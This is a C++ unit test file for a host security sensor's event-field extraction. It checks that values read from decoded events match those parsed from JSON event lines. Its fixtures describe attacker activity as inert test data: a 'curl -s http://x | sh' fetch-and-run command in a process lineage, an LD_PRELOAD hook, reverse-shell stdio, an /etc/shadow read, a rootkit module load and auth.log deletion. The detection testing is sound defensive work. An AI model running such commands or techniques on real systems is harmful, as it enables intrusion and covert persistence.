// The two sources of field values must agree: EventFields reads the decoded
// Event on the sensor, JsonFields the line JsonWriter wrote for it (what
// `yaguractl policy test` replays). For events of every type and action,
// every field of the catalog gives the same values from both; every field
// has values somewhere, only on the types its catalog entry names.
#include "sensor/judge/event_fields.h"

#include <fcntl.h>

#include <catch2/catch.hpp>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "policy/json_fields.h"
#include "tests/unit/json_test_support.h"

namespace yagura {
namespace {

using policy::all_fields;
using policy::FieldRef;
using policy::FieldSpec;
using policy::find_field;
using policy::JsonFields;
using testing::test_host;
using testing::test_task;
using testing::to_json;

using Values = std::vector<std::string>;

// ---- events ----

const ProcessKey kNginx{900, 2'000'000'000};
const ProcessKey kSh{4100, 500'000'000'000};

// nginx started a shell, which started the process of the event.
std::vector<Ancestor> web_lineage() {
  return {
      {kSh, "/bin/sh", {"sh", "-c", "curl -s http://x | sh"}},
      {kNginx, "/usr/sbin/nginx", {"nginx: worker process"}},
      {{1, 1'000'000}, "/usr/lib/systemd/systemd", {"/sbin/init", "splash"}},
  };
}

TaskInfo curl_task() {
  TaskInfo t = test_task();
  t.comm = "curl";
  t.creds.euid = 1000;
  return t;
}

// An event as the processor hands it on: names, image and lineage.
Event enriched(EventBody body) {
  Event ev;
  ev.ktime_ns = 1000'000'000'000;
  ev.body = std::move(body);
  Enrichment& en = ev.enrichment;
  en.user_name = "alice";
  en.euser_name = "alice";
  en.group_name = "alice";
  en.login_user_name = "alice";
  en.lineage = web_lineage();
  if (!std::holds_alternative<ExecEvent>(ev.body)) {
    en.image = ProcessImage{"/usr/bin/curl", {"curl", "-s", "https://example.com/"}, "/var/www"};
  }
  return ev;
}

struct Case {
  std::string name;
  Event event;
};

ExecEvent exec_body() {
  ExecEvent e;
  e.task = test_task();
  e.exe.ino = 1234;
  e.exe.dev = (259u << 20) | 3;
  e.exe.mode = 0104755;
  e.exe.uid = 0;
  e.exe.nlink = 1;
  e.exe.size = 232416;
  e.exe.deleted = true;
  e.exe_path = {"/usr/bin/python3.11", false};
  e.filename = {"./run.py", false};
  e.interpreter = {"/usr/bin/python3", false};
  e.is_script = true;
  e.cwd = {"/home/alice", true};
  e.cgroup_path = {"/user.slice/user-1000.slice/session-3.scope", false};
  e.ld_preload = CapturedString{"/tmp/.x/libhook.so", false};
  e.ld_library_path = CapturedString{"", false};
  // Quotes, a backslash, invalid UTF-8, a control byte, valid UTF-8, the
  // private-use U+E000 and text that looks like an escape: each must come
  // back from the line byte for byte.
  e.argv = {"./run.py",   "--name=it's",     "a\\b \"q\"", "caf\xc3\xa9\xff\xfe",
            "\x01\x7f\n", "\xee\x80\x80x",   "\\udcff",    "\xed\xa0\x80",
            "",           "\xf0\x9f\x92\x80"};
  e.argc = 10;
  e.args_size = 80;
  e.env_scanned = true;
  // A reverse shell's descriptors: the connection on stdin and stdout.
  e.stdio = StdStreams{{{true, 0140777, 81920}, {true, 0140777, 81920}, {false, 0, 0}}};
  return e;
}

std::vector<Case> exec_cases() {
  std::vector<Case> out;
  Event exec = enriched(exec_body());
  exec.enrichment.exe_sha256 = std::string(64, 'b');
  exec.enrichment.lineage_complete = false;
  out.push_back({"exec: script, LD_PRELOAD, hash, three ancestors", exec});

  Event snapshot = enriched(exec_body());
  snapshot.snapshot = true;
  ExecEvent& kthread = std::get<ExecEvent>(snapshot.body);
  kthread.no_exe = true;
  kthread.is_script = false;
  kthread.argv.clear();
  kthread.ld_preload.reset();
  kthread.ld_library_path.reset();
  kthread.stdio.reset();
  kthread.task.loginuid = kUnsetId;
  kthread.task.sessionid = kUnsetId;
  kthread.task.tty.clear();
  snapshot.enrichment.lineage.resize(1);
  snapshot.enrichment.login_user_name.clear();
  out.push_back({"exec: snapshot of a kernel thread", snapshot});
  return out;
}

std::vector<Case> process_cases() {
  std::vector<Case> out;
  out.push_back({"fork", enriched(ForkEvent{curl_task()})});
  out.push_back({"exit: SIGSEGV with a core", enriched(ExitEvent{curl_task(), 0x80 | 11})});
  out.push_back({"exit: code 3", enriched(ExitEvent{curl_task(), 3 << 8})});
  out.push_back({"exit: a real-time signal", enriched(ExitEvent{curl_task(), 40})});
  CredEvent cred;
  cred.task = curl_task();
  cred.task.creds.uid = cred.task.creds.euid = 0;
  cred.old = {1000, 1000, 1000, 1000, 1000, 1000, 1000, 1000, 0, 0};
  cred.syscall = CredSyscall::kSetresuid;
  out.push_back({"cred", enriched(cred)});
  return out;
}

NetEvent net(NetAction action) {
  NetEvent n;
  n.task = curl_task();
  n.action = action;
  n.family = NetFamily::kIpv4;
  n.transport = Transport::kTcp;
  n.local = {IpAddress::ipv4(10, 0, 0, 5), 40312};
  n.remote = {IpAddress::ipv4(93, 184, 215, 14), 443};
  return n;
}

std::vector<Case> network_cases() {
  std::vector<Case> out;
  Event connect = enriched(net(NetAction::kConnect));
  connect.owner_only = true;
  connect.enrichment.task_completed = true;
  connect.enrichment.destination_domains = {"example.com", "edge.example.net"};
  out.push_back({"network: connect, with names", connect});

  Event refused = enriched(net(NetAction::kConnect));
  std::get<NetEvent>(refused.body).error = 111;
  out.push_back({"network: connect refused", refused});

  Event unknown_owner = enriched(net(NetAction::kConnect));
  unknown_owner.owner_only = true;
  unknown_owner.enrichment = {};  // the table knew nothing: no ids, names, image, lineage
  unknown_owner.enrichment.lineage_complete = false;
  std::get<NetEvent>(unknown_owner.body).task.parent = {};
  std::get<NetEvent>(unknown_owner.body).error = 113;
  out.push_back({"network: connect by an unknown owner, failed", unknown_owner});

  NetEvent accept = net(NetAction::kAccept);
  accept.local = {IpAddress::ipv4(10, 0, 0, 5), 22};
  accept.remote = {IpAddress::ipv4(198, 51, 100, 7), 51000};
  accept.inbound = true;
  out.push_back({"network: accept", enriched(accept)});

  NetEvent listen = net(NetAction::kListen);
  listen.local = {IpAddress::ipv6({}), 8080};
  listen.family = NetFamily::kIpv6;
  listen.remote = {};
  out.push_back({"network: listen on ::", enriched(listen)});

  NetEvent close = net(NetAction::kClose);
  close.loopback = true;
  close.duration_ns = 1500;
  close.bytes_sent = 10;
  close.bytes_received = 20;
  Event closed = enriched(close);
  closed.enrichment.destination_domains = {"example.com"};
  out.push_back({"network: close of a connect", closed});

  NetEvent inbound_close = close;
  inbound_close.inbound = true;
  out.push_back({"network: close of an accept", enriched(inbound_close)});

  NetEvent udp = net(NetAction::kUdpSend);
  udp.transport = Transport::kUdp;
  udp.family = NetFamily::kIpv6;
  udp.remote.ip = IpAddress::ipv6({0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 8, 8, 8, 8});
  udp.remote.port = 53;
  udp.local.ip = IpAddress::ipv6({0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5});
  out.push_back({"network: udp_send, v4-mapped", enriched(udp)});

  NetEvent bind = net(NetAction::kUdpBind);
  bind.transport = Transport::kUdp;
  out.push_back({"network: udp_bind", enriched(bind)});

  NetEvent unix_socket = net(NetAction::kConnect);
  unix_socket.family = NetFamily::kUnix;
  unix_socket.transport = Transport::kNone;
  unix_socket.local = unix_socket.remote = {};
  unix_socket.unix_path = "/run/docker.sock";
  out.push_back({"network: unix connect", enriched(unix_socket)});

  NetEvent abstract = unix_socket;
  abstract.unix_path = std::string("dbus\0\xff", 6);
  abstract.unix_abstract = true;
  out.push_back({"network: abstract unix socket", enriched(abstract)});

  NetEvent newer = net(static_cast<NetAction>(99));
  newer.transport = static_cast<Transport>(132);
  out.push_back({"network: an action and protocol newer than this build", enriched(newer)});
  return out;
}

DnsEvent dns(DnsDirection direction) {
  DnsEvent d;
  d.task = curl_task();
  d.direction = direction;
  d.local = {IpAddress::ipv4(10, 0, 0, 5), 53211};
  d.remote = {IpAddress::ipv4(10, 0, 0, 1), 53};
  d.message_bytes = 90;
  d.payload = std::string(90, 'x');
  d.id = 0x1234;
  d.questions = {{"Example.COM", 28}};
  return d;
}

std::vector<Case> dns_cases() {
  std::vector<Case> out;
  out.push_back({"dns: query", enriched(dns(DnsDirection::kQuery))});
  DnsEvent answer = dns(DnsDirection::kAnswer);
  answer.questions = {{"www.example.com", 1}};
  answer.answers = {{"www.example.com", 5, 300, "edge.example.net"},
                    {"edge.example.net", 1, 60, "93.184.215.14"},
                    {"edge.example.net", 1, 60, "93.184.215.15"}};
  Event answered = enriched(answer);
  answered.owner_only = true;
  answered.enrichment.task_completed = true;
  out.push_back({"dns: answer", answered});
  DnsEvent nx = dns(DnsDirection::kAnswer);
  nx.rcode = 3;
  out.push_back({"dns: NXDOMAIN", enriched(nx)});
  DnsEvent bad = dns(DnsDirection::kQuery);
  bad.malformed = true;
  bad.error = "dns: message of 3 bytes, header needs 12";
  out.push_back({"dns: malformed", enriched(bad)});
  return out;
}

FileEvent file(FileOp op, std::string path) {
  FileEvent f;
  f.task = curl_task();
  f.op = op;
  f.path = {std::move(path), false};
  FileInfo info;
  info.dev = (8u << 20) | 1;
  info.ino = 1234;
  info.mode = 0100644;
  info.uid = 33;
  info.nlink = 1;
  f.file = info;
  return f;
}

std::vector<Case> file_cases() {
  std::vector<Case> out;
  FileEvent open = file(FileOp::kOpen, "/etc/cron.d/job");
  open.path_as_given = "/tmp/../etc/cron.d/job";
  open.lexical = open.unnormalized = true;
  open.write = open.created = open.truncated_on_open = true;
  open.flags = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC;
  open.mode = 0644;
  open.fd = 3;
  out.push_back({"file: open for writing, created", enriched(open)});

  FileEvent read = file(FileOp::kOpen, "/etc/shadow");
  read.read = read.watched_read = true;
  read.flags = O_RDONLY;
  read.file.reset();
  out.push_back({"file: watched read", enriched(read)});

  FileEvent rename = file(FileOp::kRename, "/etc/passwd");
  rename.source_path = {"/tmp/passwd", true};
  rename.flags = 1;
  out.push_back({"file: rename", enriched(rename)});

  FileEvent link = file(FileOp::kLink, "/etc/sudoers.d/x");
  link.source_path = {"/tmp/x", false};
  out.push_back({"file: link", enriched(link)});

  FileEvent chmod = file(FileOp::kChmod, "/usr/local/bin/tool");
  chmod.mode = 06755;
  out.push_back({"file: chmod setuid", enriched(chmod)});

  FileEvent chown = file(FileOp::kChown, "/usr/local/bin/tool");
  chown.uid = 0;
  chown.gid = 0;
  out.push_back({"file: chown", enriched(chown)});

  FileEvent chown_uid = chown;
  chown_uid.gid = kUnsetId;
  out.push_back({"file: chown, owner only", enriched(chown_uid)});

  FileEvent symlink = file(FileOp::kSymlink, "/etc/cron.d/evil");
  symlink.source_path = {"../../tmp/x", false};
  symlink.file.reset();
  out.push_back({"file: symlink", enriched(symlink)});

  FileEvent memfd = file(FileOp::kMemfdCreate, "memfd:payload");
  memfd.flags = 1;
  memfd.fd = 4;
  out.push_back({"file: memfd_create", enriched(memfd)});

  FileEvent mkdir = file(FileOp::kMkdir, "/etc/cron.d/dir");
  mkdir.mode = 0700;
  out.push_back({"file: mkdir", enriched(mkdir)});

  FileEvent stomp = file(FileOp::kUtimes, "/usr/bin/x");
  stomp.explicit_times = true;
  stomp.mtime_ns = 1546300800'250'000'000ull;
  out.push_back({"file: utimes, explicit", enriched(stomp)});

  FileEvent touched = file(FileOp::kUtimes, "/tmp/x");
  touched.file.reset();
  out.push_back({"file: utimes, now", enriched(touched)});

  out.push_back({"file: unlink", enriched(file(FileOp::kUnlink, "/var/log/auth.log"))});
  out.push_back(
      {"file: an op newer than this build", enriched(file(static_cast<FileOp>(42), "/etc/x"))});
  return out;
}

TamperEvent tamper(TamperOp op) {
  TamperEvent t;
  t.task = curl_task();
  t.op = op;
  return t;
}

std::vector<Case> tamper_cases() {
  std::vector<Case> out;
  TamperEvent ptrace = tamper(TamperOp::kPtrace);
  ptrace.args = {16, 812, 0};
  Event attached = enriched(ptrace);
  attached.enrichment.target = TargetProcess{{812, 3'000'000'000}, "/usr/sbin/sshd", ""};
  out.push_back({"tamper: ptrace attach", attached});

  TamperEvent failed = tamper(TamperOp::kPtrace);
  failed.result = -1;
  failed.args = {0x4206, 99, 0x7ffd1234};
  Event unresolved = enriched(failed);
  unresolved.enrichment.target = TargetProcess{};
  out.push_back({"tamper: failed ptrace seize, unresolved target", unresolved});

  TamperEvent newer_request = tamper(TamperOp::kPtrace);
  newer_request.args = {0x9999, 5, 0};
  out.push_back({"tamper: ptrace request without a name", enriched(newer_request)});

  TamperEvent vm = tamper(TamperOp::kVmWritev);
  vm.args = {812, 1, 0};
  out.push_back({"tamper: process_vm_writev", enriched(vm)});

  TamperEvent mem = tamper(TamperOp::kProcMem);
  mem.args = {812, 0, 0};
  mem.strings[0] = {"/proc/812/mem", false};
  out.push_back({"tamper: /proc/PID/mem", enriched(mem)});

  TamperEvent kill = tamper(TamperOp::kKill);
  kill.args = {9, static_cast<uint64_t>(-6), 0};
  kill.kill_target = {777, 5'000'000'000};
  kill.kill_target_uid = 0;
  Event killed = enriched(kill);
  killed.enrichment.target = TargetProcess{{777, 5'000'000'000}, "/usr/sbin/auditd", "root"};
  out.push_back({"tamper: kill", killed});

  TamperEvent rt_kill = kill;
  rt_kill.args[0] = 40;
  rt_kill.result = 1;
  out.push_back({"tamper: kill with a real-time signal, ignored", enriched(rt_kill)});

  TamperEvent finit = tamper(TamperOp::kModuleLoad);
  finit.args = {1, 3, 0};
  finit.strings = {CapturedString{"/tmp/rootkit.ko", false}, CapturedString{"debug=1", false},
                   CapturedString{"rootkit", false}};
  out.push_back({"tamper: finit_module", enriched(finit)});

  TamperEvent init = tamper(TamperOp::kModuleLoad);
  init.args = {0, 65536, 0};
  init.result = -1;
  init.strings[1] = {"x=1", true};
  out.push_back({"tamper: init_module refused", enriched(init)});

  TamperEvent bpf = tamper(TamperOp::kBpfLoad);
  bpf.args = {2, 42, 0};
  bpf.strings[0] = {"trace_open", false};
  out.push_back({"tamper: bpf_prog_load", enriched(bpf)});

  TamperEvent bpf_newer = bpf;
  bpf_newer.args[0] = 77;
  out.push_back({"tamper: bpf_prog_load of a newer type", enriched(bpf_newer)});

  TamperEvent mount = tamper(TamperOp::kMount);
  mount.args = {0x1000 | 0x4000 | 0x80000000ull, 0, 0};  // MS_BIND | MS_REC | an unknown bit
  mount.strings = {CapturedString{"/", false}, CapturedString{"/mnt/host", false},
                   CapturedString{"", false}};
  out.push_back({"tamper: mount", enriched(mount)});

  TamperEvent umount = tamper(TamperOp::kUmount);
  umount.args = {2, 0, 0};
  umount.strings[0] = {"/mnt/host", false};
  out.push_back({"tamper: umount", enriched(umount)});

  TamperEvent unshare = tamper(TamperOp::kUnshare);
  unshare.args = {0x10000000 | 0x00020000, 0, 0};
  out.push_back({"tamper: unshare", enriched(unshare)});

  TamperEvent setns = tamper(TamperOp::kSetns);
  setns.args = {5, 0, 0};
  out.push_back({"tamper: setns, any type", enriched(setns)});

  TamperEvent prctl = tamper(TamperOp::kPrctlName);
  prctl.strings[0] = {"[kworker/0:1]", false};
  out.push_back({"tamper: prctl_set_name", enriched(prctl)});

  TamperEvent newer = tamper(static_cast<TamperOp>(64));
  newer.args = {1, 2, 3};
  out.push_back({"tamper: an op newer than this build", enriched(newer)});
  return out;
}

std::vector<Case> all_cases() {
  std::vector<Case> out;
  for (auto make : {exec_cases, process_cases, network_cases, dns_cases, file_cases, tamper_cases})
    for (Case& c : make()) out.push_back(std::move(c));
  return out;
}

// The references that name every field: keyed ones with a few keys.
std::vector<FieldRef> all_refs() {
  std::vector<FieldRef> refs;
  for (const FieldSpec& f : all_fields()) {
    if (f.keyed) {
      for (const char* key : {"role", "env", "missing"}) refs.push_back({f.id, key});
    } else {
      refs.push_back({f.id, ""});
    }
  }
  return refs;
}

Values values_of(const policy::FieldSource& source, const FieldRef& ref) {
  Values v;
  source.values(ref, v);
  return v;
}

Values values_of(const policy::FieldSource& source, std::string_view name) {
  std::string key;
  const FieldSpec* spec = find_field(name, &key);
  REQUIRE(spec != nullptr);
  return values_of(source, FieldRef{spec->id, key});
}

JsonFields parse_line(const std::string& line) {
  auto parsed = JsonFields::parse(line);
  INFO(line);
  REQUIRE(parsed.ok());
  return std::move(parsed).value();
}

}  // namespace

TEST_CASE("EventFields and the JSON line give every field the same values", "[judge][fields]") {
  const HostIdentity host = test_host();
  std::map<policy::FieldId, uint32_t> seen_on;  // field -> type bits it had values on
  for (const Case& c : all_cases()) {
    const std::string line = to_json(c.event, host);
    const EventFields from_event(c.event, host);
    const JsonFields from_json = parse_line(line);
    INFO(c.name << "\n" << line);
    REQUIRE(from_event.type_bit() == from_json.type_bit());
    for (const FieldRef& ref : all_refs()) {
      const FieldSpec& spec = all_fields()[ref.id];
      INFO(spec.name << (ref.key.empty() ? "" : "." + ref.key));
      const Values got = values_of(from_event, ref);
      CHECK(got == values_of(from_json, ref));
      if (got.empty()) continue;
      seen_on[ref.id] |= from_event.type_bit();
      if (!spec.list) CHECK(got.size() == 1);
    }
  }
  // No dead entry: every field has values, on exactly the types its entry
  // names (so a rule on it is not silently a rule on nothing).
  for (const FieldSpec& spec : all_fields()) {
    INFO(spec.name);
    CHECK(seen_on[spec.id] == spec.types);
  }
}

TEST_CASE("EventFields values, spot checks", "[judge][fields]") {
  const HostIdentity host = test_host();
  const auto cases = all_cases();
  auto event_named = [&](std::string_view name) -> const Event& {
    for (const Case& c : cases)
      if (c.name == name) return c.event;
    FAIL("no case " << name);
    return cases.front().event;
  };
  const Event& exec = event_named("exec: script, LD_PRELOAD, hash, three ancestors");
  const EventFields e(exec, host);
  CHECK(e.type_bit() == policy::kExecBit);
  CHECK(values_of(e, "Image") == Values{"/usr/bin/python3.11"});
  CHECK(values_of(e, "ParentImage") == Values{"/bin/sh"});
  CHECK(values_of(e, "ParentCommandLine") == Values{"sh -c 'curl -s http://x | sh'"});
  CHECK(values_of(e, "ParentProcessId") == Values{"4100"});
  CHECK(values_of(e, "ProcessId") == Values{"4242"});
  CHECK(values_of(e, "User") == Values{"alice"});
  CHECK(values_of(e, "LogonId") == Values{"1000"});
  CHECK(values_of(e, "CurrentDirectory") == Values{"/home/alice"});
  CHECK(values_of(e, "CommandLine").at(0).starts_with("./run.py '--name=it'\\''s' 'a\\b \"q\"' "));
  CHECK(values_of(e, "process.args").at(3) == "caf\xc3\xa9\xff\xfe");
  CHECK(values_of(e, "process.script.path") == Values{"/home/alice/run.py"});
  CHECK(values_of(e, "process.env.LD_PRELOAD") == Values{"/tmp/.x/libhook.so"});
  CHECK(values_of(e, "process.env.LD_LIBRARY_PATH") == Values{""});
  CHECK(values_of(e, "process.exe_file.mode") == Values{"0104755"});
  CHECK(values_of(e, "process.exe_file.setuid") == Values{"true"});
  CHECK(values_of(e, "ancestors.exe") == Values{"/usr/sbin/nginx", "/usr/lib/systemd/systemd"});
  CHECK(values_of(e, "lineage.exe") ==
        Values{"/bin/sh", "/usr/sbin/nginx", "/usr/lib/systemd/systemd"});
  CHECK(values_of(e, "lineage.command_line") ==
        Values{"sh -c 'curl -s http://x | sh'", "'nginx: worker process'", "/sbin/init splash"});
  CHECK(values_of(e, "host.tags.role") == Values{"web"});
  CHECK(values_of(e, "host.tags.missing").empty());
  CHECK(values_of(e, "DestinationIp").empty());  // not on exec
  CHECK(values_of(e, "process.stdio.stdin.type") == Values{"socket"});
  CHECK(values_of(e, "process.stdio.stdout.ino") == Values{"81920"});
  CHECK(values_of(e, "process.stdio.stderr.type") == Values{"none"});
  CHECK(values_of(e, "process.stdio.stderr.ino") == Values{"0"});
  const EventFields kthread(event_named("exec: snapshot of a kernel thread"), host);
  CHECK(values_of(kthread, "process.stdio.stdin.type").empty());

  const EventFields connect(event_named("network: connect, with names"), host);
  CHECK(values_of(connect, "DestinationIp") == Values{"93.184.215.14"});
  CHECK(values_of(connect, "DestinationPort") == Values{"443"});
  CHECK(values_of(connect, "DestinationHostname") == Values{"example.com", "edge.example.net"});
  CHECK(values_of(connect, "SourcePort") == Values{"40312"});
  CHECK(values_of(connect, "Initiated") == Values{"true"});
  CHECK(values_of(connect, "Protocol") == Values{"tcp"});
  CHECK(values_of(connect, "Image") == Values{"/usr/bin/curl"});
  // "A connect by a shell whose parent is nginx".
  CHECK(values_of(connect, "ParentImage") == Values{"/bin/sh"});
  CHECK(values_of(connect, "ancestors.exe").at(0) == "/usr/sbin/nginx");

  const EventFields mapped(event_named("network: udp_send, v4-mapped"), host);
  CHECK(values_of(mapped, "DestinationIp") == Values{"8.8.8.8"});
  CHECK(values_of(mapped, "SourceIp") == Values{"2001:db8::5"});

  const EventFields unknown(event_named("network: connect by an unknown owner, failed"), host);
  CHECK(values_of(unknown, "process.uid").empty());
  CHECK(values_of(unknown, "User").empty());
  CHECK(values_of(unknown, "ParentProcessId").empty());
  CHECK(values_of(unknown, "network.error") == Values{"EHOSTUNREACH"});

  const EventFields query(event_named("dns: query"), host);
  CHECK(values_of(query, "QueryName") == Values{"Example.COM"});
  CHECK(values_of(query, "dns.question.type") == Values{"AAAA"});
  const EventFields answer(event_named("dns: answer"), host);
  CHECK(values_of(answer, "dns.answers.data") ==
        Values{"edge.example.net", "93.184.215.14", "93.184.215.15"});

  const EventFields rename(event_named("file: rename"), host);
  CHECK(values_of(rename, "TargetFilename") == Values{"/etc/passwd"});
  CHECK(values_of(rename, "SourceFilename") == Values{"/tmp/passwd"});
  const EventFields open(event_named("file: open for writing, created"), host);
  CHECK(values_of(open, "file.access") == Values{"write", "create", "truncate"});
  CHECK(values_of(open, "file.open_flags") == Values{"O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"});
  CHECK(values_of(open, "file.mode") == Values{"0000644"});
  CHECK(values_of(open, "file.explicit_times").empty());
  const EventFields stomp(event_named("file: utimes, explicit"), host);
  CHECK(values_of(stomp, "file.action") == Values{"utimes"});
  CHECK(values_of(stomp, "file.explicit_times") == Values{"true"});
  CHECK(values_of(stomp, "file.mtime") == Values{"2019-01-01T00:00:00.250000000Z"});
  const EventFields touched(event_named("file: utimes, now"), host);
  CHECK(values_of(touched, "file.explicit_times") == Values{"false"});
  CHECK(values_of(touched, "file.mtime").empty());

  const EventFields mount(event_named("tamper: mount"), host);
  CHECK(values_of(mount, "tamper.flags") == Values{"MS_BIND", "MS_REC", "0x80000000"});
  const EventFields init(event_named("tamper: init_module refused"), host);
  CHECK(values_of(init, "tamper.result") == Values{"-1"});
  CHECK(values_of(init, "tamper.success") == Values{"false"});
  const EventFields newer(event_named("tamper: an op newer than this build"), host);
  CHECK(values_of(newer, "tamper.action") == Values{"64"});
}

TEST_CASE("JsonFields gives back raw bytes written as surrogate escapes (udcXX)", "[policy][fields]") {
  auto args = [](const std::string& json_args) {
    const std::string line = R"({"type":"exec","process":{"args":)" + json_args + "}}";
    return values_of(parse_line(line), "process.args");
  };
  CHECK(args(R"(["a\udcffb","\udc80"])") == Values{"a\xff"
                                                   "b",
                                                   "\x80"});
  CHECK(args(R"(["\uDCFE"])") == Values{"\xfe"});
  // A surrogate pair is a character, not two bytes.
  CHECK(args(R"(["\ud83d\udc80"])") == Values{"\xf0\x9f\x92\x80"});
  // U+E000 stays itself, written raw or escaped, next to raw bytes or not.
  CHECK(args("[\"\xee\x80\x80\\udcff\xee\x80\x80\"]") == Values{"\xee\x80\x80\xff\xee\x80\x80"});
  CHECK(args(R"(["\ue000\ue0ff"])") == Values{"\xee\x80\x80\xee\x83\xbf"});
  CHECK(args(R"(["\ue000"])") == Values{"\xee\x80\x80"});
  // An escaped backslash is not the start of an escape.
  CHECK(args(R"(["\\udcff","\\\udcff"])") == Values{"\\udcff", "\\\xff"});
  // Outside strings nothing changes; member names are decoded too.
  const JsonFields tags =
      parse_line(R"({"type":"file","host":{"tags":{"k\udcff":"v\udcfe","e\ue000":"1"}},"n":-1})");
  CHECK(values_of(tags, "host.tags.k\xff") == Values{"v\xfe"});
  CHECK(values_of(tags, "host.tags.e\xee\x80\x80") == Values{"1"});
}

TEST_CASE("JsonFields refuses what is not an event line, without throwing", "[policy][fields]") {
  for (const char* bad :
       {"", "{", "not json", "[1,2]", R"({"type":1})", R"({"schema":2})", R"({"type":"health"})",
        R"({"type":"exec","x":"\udc41"})", R"({"type":"exec","x":"\ud800"})",
        "{\"type\":\"exec\",\"x\":\"\xff\"}", R"({"type":"exec"} trailing)"}) {
    INFO(bad);
    Result<JsonFields> parsed = JsonFields::parse(bad);
    REQUIRE_FALSE(parsed.ok());
    CHECK_FALSE(parsed.error().message.empty());
  }
  CHECK_THAT(JsonFields::parse("{").error().message, Catch::StartsWith("bad JSON event: "));
  CHECK_THAT(JsonFields::parse(R"({"type":"health"})").error().message, Catch::Contains("health"));
}

TEST_CASE("JsonFields: absent, null and structured members have no values", "[policy][fields]") {
  const JsonFields f =
      parse_line(R"({"type":"exec","process":{"loginuid":null,"tty":null,"exe_file":{"uid":0},)"
                 R"("args":[]},"parent":{"pid":1}})");
  CHECK(f.type_bit() == policy::kExecBit);
  CHECK(values_of(f, "process.loginuid").empty());
  CHECK(values_of(f, "process.tty").empty());
  CHECK(values_of(f, "process.args").empty());
  CHECK(values_of(f, "process.exe").empty());
  CHECK(values_of(f, "process.exe_file.uid") == Values{"0"});
  CHECK(values_of(f, "lineage.exe").empty());
  CHECK(values_of(f, "ParentProcessId") == Values{"1"});
  Values none;
  f.values(FieldRef{static_cast<policy::FieldId>(all_fields().size()), ""}, none);
  CHECK(none.empty());
}

}  // namespace yagura
